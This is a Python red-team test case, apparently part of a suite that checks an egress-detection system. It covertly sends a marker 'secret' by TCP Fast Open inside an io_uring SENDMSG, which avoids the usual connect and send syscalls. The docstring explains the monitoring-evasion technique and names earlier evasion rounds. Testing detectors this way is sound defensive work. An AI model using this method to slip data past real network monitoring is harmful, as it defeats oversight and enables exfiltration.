"""Round 10: TCP Fast Open through io_uring: the connect happens inside one IORING_OP_SENDMSG.

Gap 1 (egress outside connect/sendto/sendmsg).  A fresh TCP socket, never
connected, gets one io_uring ``SENDMSG`` with ``msg_name`` = a new
destination and ``MSG_FASTOPEN``: TCP starts the handshake from inside
sendmsg (``tcp_sendmsg_fastopen``); whatever the SYN did not carry follows as
``IORING_OP_SEND``.  No connect, sendto or sendmsg syscall, and no
io_uring CONNECT: rounds 1 and 4 tried fast open by syscall and by
``TCP_FASTOPEN_CONNECT``, round 4 io_uring ``SENDMSG_ZC`` on UDP.
A detection: L4 UNKNOWN_DESTINATION naming the destination.
"""

from __future__ import annotations

from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 10
STAGE = True
EXPECT = ("L4",)


def stage(args: dict[str, Any]) -> None:
    rt.build_r10_lib(args["work"])


def run(args: dict[str, Any]) -> None:
    d = args["dest"]
    lib = rt.r10_lib(args["work"])
    secret = b"H7RT-SECRET r10 fast open through io_uring sendmsg\n" * 4
    t = rt.now()
    rc = lib.rt10_uring_tfo(rt.loopback(d["ip"]).encode(), int(d["port"]), secret, len(secret))
    rt.report(
        t,
        rc == len(secret),
        f"io_uring SENDMSG(MSG_FASTOPEN) + SEND to {d['ip']}:{d['port']}: "
        f"{rc if rc >= 0 else rt.errno_name(rc)} of {len(secret)} bytes",
    )


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
